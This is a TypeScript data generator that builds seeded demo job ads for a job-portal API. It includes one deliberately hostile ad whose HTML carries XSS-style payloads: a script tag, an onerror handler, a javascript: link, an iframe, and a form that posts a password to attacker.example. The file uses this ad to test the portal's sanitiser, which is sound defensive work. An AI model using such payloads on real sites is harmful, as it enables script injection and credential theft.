import type { CompanyRef, EmploymentType, Job, JobCompany, JobSummary } from '@/api/types';
import { CATEGORIES, COMPANY_SEEDS, type CompanySeed } from './companies';
import { cityNamed } from './places';
import { createRandom, type Random } from './prng';
import { escapeHtml, htmlToText, normalizeText, slugify } from './text';

const DAY = 86_400_000;
const startOfUtcDay = (time: number) => time - (((time % DAY) + DAY) % DAY);

/** A job as the demo keeps it: the API's Job plus what search needs, computed once. */
export interface DemoJob extends Job {
  /** Normalised words of title, company, place, category and ad text, each preceded by a space. */
  searchText: string;
  /** Normalised words of the title and company, for ranking. */
  headlineText: string;
  finalApplyTime: number;
  publishedTime: number;
}

const TITLES: Record<string, string[]> = {
  [CATEGORIES.it]: [
    'Backend Developer',
    'Frontend Developer',
    'Full-stack Developer',
    'DevOps Engineer',
    'Data Engineer',
    'IT Support Technician',
    'Tech Lead',
    'QA Engineer',
    'Cloud Architect',
    'Mobile Developer',
  ],
  [CATEGORIES.health]: [
    'Registered Nurse',
    'Assistant Nurse',
    'Physiotherapist',
    'General Practitioner',
    'Pharmacist',
    'Occupational Therapist',
    'Midwife',
    'Medical Secretary',
  ],
  [CATEGORIES.engineering]: [
    'Mechanical Engineer',
    'Electrical Engineer',
    'Automation Engineer',
    'Process Engineer',
    'Service Technician',
    'Quality Engineer',
    'Project Engineer',
  ],
  [CATEGORIES.sales]: [
    'Account Manager',
    'Sales Representative',
    'Key Account Manager',
    'Store Manager',
    'Sales Assistant',
    'Business Developer',
  ],
  [CATEGORIES.marketing]: [
    'Content Designer',
    'Marketing Coordinator',
    'Communications Officer',
    'UX Designer',
    'Graphic Designer',
    'Social Media Editor',
  ],
  [CATEGORIES.finance]: [
    'Accountant',
    'Financial Controller',
    'Payroll Specialist',
    'Risk Analyst',
    'Credit Analyst',
    'Auditor',
  ],
  [CATEGORIES.logistics]: [
    'Warehouse Operative',
    'Truck Driver',
    'Logistics Planner',
    'Forklift Driver',
    'Supply Chain Analyst',
    'Shift Supervisor',
  ],
  [CATEGORIES.construction]: [
    'Site Manager',
    'Carpenter',
    'Electrician',
    'Property Manager',
    'Structural Engineer',
    'Plumber',
  ],
  [CATEGORIES.education]: [
    'Primary School Teacher',
    'Preschool Teacher',
    'Special Needs Teacher',
    'Mathematics Teacher',
    'School Counsellor',
  ],
  [CATEGORIES.hospitality]: [
    'Chef',
    'Barista',
    'Receptionist',
    'Restaurant Manager',
    'Housekeeper',
    'Sous Chef',
  ],
  [CATEGORIES.service]: [
    'Customer Service Agent',
    'Customer Success Manager',
    'Support Team Lead',
    'Call Centre Agent',
  ],
  [CATEGORIES.hr]: [
    'HR Generalist',
    'Recruiter',
    'Office Manager',
    'HR Business Partner',
    'Administrative Assistant',
  ],
  [CATEGORIES.energy]: [
    'Wind Turbine Technician',
    'Energy Analyst',
    'Grid Engineer',
    'Hydropower Operator',
    'Energy Trader',
  ],
};

const DUTIES: Record<string, string[]> = {
  [CATEGORIES.it]: [
    'design, build and run services used by thousands of people every day',
    'review code and share what you know with the team',
    'improve our build and deployment pipelines',
    'work closely with designers and product owners',
    'keep our systems secure, observable and fast',
    'take part in a calm, well-planned on-call rota',
  ],
  [CATEGORIES.health]: [
    'plan and give care together with doctors and colleagues',
    'meet patients and their families with respect',
    'document care in our patient records system',
    'take part in the development of our ward routines',
    'supervise students during their placements',
  ],
  [CATEGORIES.engineering]: [
    'lead technical work from first sketch to commissioning',
    'solve problems on the factory floor together with operators',
    'write specifications and test protocols',
    'work with suppliers on quality and delivery',
    'drive continuous improvement with lean methods',
  ],
  [CATEGORIES.sales]: [
    'build long-term relationships with customers in the region',
    'find and win new customers',
    'plan campaigns with our marketing team',
    'follow up sales targets every week',
    'represent the company at trade fairs',
  ],
  [CATEGORIES.marketing]: [
    'write and edit texts for web, social media and print',
    'plan campaigns and measure what works',
    'run user research and usability tests',
    'keep our visual identity consistent',
    'work with agencies and freelancers',
  ],
  [CATEGORIES.finance]: [
    'own the monthly and yearly closing',
    'prepare reports for management and the board',
    'improve our routines and systems',
    'handle VAT, payroll and tax questions',
    'support budget owners across the company',
  ],
  [CATEGORIES.logistics]: [
    'receive, store and ship goods safely',
    'plan routes and loads for the next day',
    'keep track of stock in our warehouse system',
    'lead a small team on your shift',
    'work for a safe and tidy workplace',
  ],
  [CATEGORIES.construction]: [
    'plan and lead work on site',
    'follow up time, cost and quality',
    'make sure that everyone goes home safe',
    'work with architects, clients and subcontractors',
    'keep our properties in good shape',
  ],
  [CATEGORIES.education]: [
    'plan, teach and assess lessons',
    'work with colleagues in a teaching team',
    'keep in close contact with parents',
    'adapt teaching to every pupil',
    'take part in the development of the school',
  ],
  [CATEGORIES.hospitality]: [
    'prepare food from local produce',
    'welcome guests and make them feel at home',
    'keep our standards of hygiene and quality',
    'plan menus with the head chef',
    'train new colleagues',
  ],
  [CATEGORIES.service]: [
    'answer customers by phone, chat and email',
    'solve problems at the first contact',
    'share customer feedback with product teams',
    'help colleagues when the queue is long',
    'write help articles',
  ],
  [CATEGORIES.hr]: [
    'support managers in everything from recruitment to rehabilitation',
    'run our recruitment processes',
    'keep personnel records correct and secure',
    'plan onboarding for new colleagues',
    'develop our HR routines',
  ],
  [CATEGORIES.energy]: [
    'service and repair turbines and power stations',
    'analyse production and market data',
    'plan maintenance together with operators',
    'work on the energy transition in the region',
    'follow strict safety routines',
  ],
};

const REQUIREMENTS = [
  'a relevant education, or experience that matches it',
  'good spoken and written English; a Scandinavian language is a plus',
  'a driving licence (B)',
  'a structured way of working',
  'experience from a similar role',
  'enjoy working with people',
  'take responsibility and follow through',
  'curiosity and a will to learn',
];

const OFFERS = [
  'collective agreement, occupational pension and insurance',
  'a wellness allowance and flexible working hours',
  'five weeks of holiday and paid parental leave top-up',
  'time for learning and a yearly training budget',
  'friendly colleagues and an open workplace',
  'a hybrid workplace with two days a week from home',
];

const EMPLOYMENT_WEIGHTS: Array<[EmploymentType, number]> = [
  ['full-time', 60],
  ['part-time', 15],
  ['temporary', 12],
  ['summer', 8],
  ['internship', 5],
];

const FIRST_NAMES = [
  'Anna',
  'Erik',
  'Sara',
  'Lars',
  'Ingrid',
  'Mikkel',
  'Sofie',
  'Johan',
  'Maja',
  'Ola',
  'Freja',
  'Nils',
];
const LAST_NAMES = [
  'Andersson',
  'Hansen',
  'Nielsen',
  'Johansson',
  'Larsen',
  'Berg',
  'Lindgren',
  'Jensen',
  'Dahl',
  'Holm',
];

function pickWeighted<T>(random: Random, weighted: Array<[T, number]>): T {
  const total = weighted.reduce((sum, [, weight]) => sum + weight, 0);
  let roll = random.next() * total;
  for (const [value, weight] of weighted) {
    roll -= weight;
    if (roll < 0) return value;
  }
  return weighted[0]![0];
}

export function companyRef(seed: CompanySeed, apiBase: string): CompanyRef {
  return {
    id: seed.id,
    name: seed.name,
    pageSlug: 'about-us',
    logoUrl: seed.logo ? `${apiBase}/companies/${seed.id}/logo` : null,
  };
}

/** The company as a job's own page has it: with its privacy notice, or null. */
function jobCompany(seed: CompanySeed, apiBase: string): JobCompany {
  return { ...companyRef(seed, apiBase), privacyNoticeUrl: seed.privacyNoticeUrl ?? null };
}

function adHtml(
  random: Random,
  title: string,
  company: CompanySeed,
  city: string,
  category: string,
): string {
  const duties = random.sample(DUTIES[category] ?? [], 4);
  const requirements = random.sample(REQUIREMENTS, 3);
  const offers = random.sample(OFFERS, 3);
  const list = (items: string[]) =>
    `<ul>${items.map((item) => `<li>${escapeHtml(item)}</li>`).join('')}</ul>`;
  return [
    `<h2>About the role</h2>`,
    `<p>${escapeHtml(company.name)} is looking for a ${escapeHtml(title.toLowerCase())} in ${escapeHtml(city)}. ${escapeHtml(company.tagline)} You will join a team of ${random.int(4, 25)} people.</p>`,
    `<h2>What you will do</h2>`,
    `<p>As ${escapeHtml(/^[aeiou]/i.test(title) ? 'an' : 'a')} ${escapeHtml(title.toLowerCase())} you will:</p>`,
    list(duties),
    `<h2>Who you are</h2>`,
    `<p>We believe that you have:</p>`,
    list(requirements),
    `<h2>What we offer</h2>`,
    list(offers),
    `<p>We read applications as they arrive and may fill the position before the final apply date. <strong>Welcome with your application!</strong></p>`,
  ].join('\n');
}

/** An ad that tries every trick, so the sanitiser in the portal is exercised by real data. */
export const HOSTILE_JOB_SLUG = 'security-awareness-trainer-oslo';
const HOSTILE_AD = [
  '<h2>About the role</h2>',
  '<p>Teach our colleagues to spot phishing.<script>window.__hostileAd = true; alert("script ran")</script></p>',
  '<img src="/does-not-exist.png" alt="" onerror="window.__hostileAd = true">',
  '<p style="position:fixed;inset:0;background:red">This paragraph carries a style attribute.</p>',
  '<p><a href="javascript:window.__hostileAd=true">A javascript: link</a> and <a href="https://example.com/training" target="_blank">a normal link</a>.</p>',
  '<form action="https://attacker.example/steal"><input name="password" placeholder="Password"><button>Send</button></form>',
  '<p id="__proto__" name="getElementById">Element with clobbering id and name.</p>',
  '<iframe src="https://attacker.example"></iframe>',
  '<h2>Who you are</h2>',
  '<ul><li>You know what a sanitiser is</li><li>You like clean HTML</li></ul>',
].join('\n');

export interface GenerateJobsOptions {
  count: number;
  /** Start of the day the data is relative to (ms). */
  today: number;
  seed?: number;
  /** Base address the logo URLs start with (the main API). */
  apiBase?: string;
}

/**
 * The job catalogue: the same count and seed give the same jobs, titles and slugs; dates are
 * offsets from `today`, so some deadlines are always in the past and most in the future.
 */
export function generateJobs({
  count,
  today,
  seed = 20240611,
  apiBase = '',
}: GenerateJobsOptions): DemoJob[] {
  const random = createRandom(seed);
  const jobs: DemoJob[] = [];
  const usedSlugs = new Set<string>();
  for (let index = 0; index < count; index += 1) {
    const company = COMPANY_SEEDS[index % COMPANY_SEEDS.length]!;
    const category = random.pick(company.categories);
    const title = random.pick(TITLES[category] ?? ['Specialist']);
    const city = cityNamed(random.pick(company.cities));
    // About one in six is closed: published weeks ago, with a final apply date before today.
    const closed = random.chance(0.17);
    const publishedTime =
      today - random.int(closed ? 25 : 1, closed ? 60 : 40) * DAY + random.int(7, 16) * 3_600_000;
    const endOfDay = 22 * 3_600_000 + 59 * 60_000;
    const finalApplyTime = closed
      ? startOfUtcDay(publishedTime) + random.int(7, 20) * DAY + endOfDay
      : today + random.int(3, 60) * DAY + endOfDay;
    let slug = `${slugify(title)}-${slugify(city.name)}`;
    if (usedSlugs.has(slug)) slug = `${slug}-${(index + 1).toString(36)}`;
    usedSlugs.add(slug);
    const html = adHtml(random, title, company, city.name, category);
    const contactFirst = random.pick(FIRST_NAMES);
    const contactLast = random.pick(LAST_NAMES);
    jobs.push(
      withSearchText({
        id: `job-${index + 1}`,
        slug,
        title,
        company: jobCompany(company, apiBase),
        location: city.name,
        region: city.region,
        country: city.country,
        category,
        employmentType: pickWeighted(random, EMPLOYMENT_WEIGHTS),
        publishedAt: new Date(publishedTime).toISOString(),
        finalApplyDate: new Date(finalApplyTime).toISOString(),
        excerpt: '',
        adHtml: html,
        contactName: `${contactFirst} ${contactLast}`,
        contactEmail: `${slugify(contactFirst)}.${slugify(contactLast)}@${company.id}.example.com`,
      }),
    );
  }
  if (count >= 10) {
    const company = COMPANY_SEEDS.find((seedCompany) => seedCompany.id === 'asgard-sikkerhet')!;
    const city = cityNamed('Oslo');
    jobs.push(
      withSearchText({
        id: `job-${count + 1}`,
        slug: HOSTILE_JOB_SLUG,
        title: 'Security Awareness Trainer',
        company: jobCompany(company, apiBase),
        location: city.name,
        region: city.region,
        country: city.country,
        category: CATEGORIES.it,
        employmentType: 'full-time',
        publishedAt: new Date(today - 2 * DAY).toISOString(),
        finalApplyDate: new Date(today + 30 * DAY).toISOString(),
        excerpt: '',
        adHtml: HOSTILE_AD,
        contactName: '<b>Mallory</b> "Quote"',
        contactEmail: 'mallory@asgard-sikkerhet.example.com',
      }),
    );
  }
  return jobs;
}

function uniqueWords(text: string): string {
  return ` ${Array.from(new Set(normalizeText(text).split(' '))).join(' ')}`;
}

function withSearchText(
  job: Omit<DemoJob, 'searchText' | 'headlineText' | 'finalApplyTime' | 'publishedTime'>,
): DemoJob {
  const plain = htmlToText(job.adHtml);
  const firstParagraph = htmlToText(/<p>([\s\S]*?)<\/p>/.exec(job.adHtml)?.[1] ?? plain);
  const excerpt =
    firstParagraph.length > 180
      ? `${firstParagraph.slice(0, 177).replace(/\s+\S*$/, '')}…`
      : firstParagraph;
  return {
    ...job,
    excerpt: job.excerpt || excerpt,
    headlineText: uniqueWords(`${job.title} ${job.company.name}`),
    searchText: uniqueWords(
      `${job.title} ${job.company.name} ${job.location} ${job.region} ${job.category} ${job.employmentType} ${plain}`,
    ),
    finalApplyTime: Date.parse(job.finalApplyDate),
    publishedTime: Date.parse(job.publishedAt),
  };
}

/** The Job the API answers with: the demo's extra search fields removed. */
export function toJob(job: DemoJob): Job {
  const { searchText: _s, headlineText: _h, finalApplyTime: _f, publishedTime: _p, ...rest } = job;
  return rest;
}

export function toJobSummary(job: DemoJob): JobSummary {
  const {
    adHtml: _a,
    contactName: _n,
    contactEmail: _e,
    company: { privacyNoticeUrl: _p, ...company },
    ...summary
  } = toJob(job);
  return { ...summary, company };
}
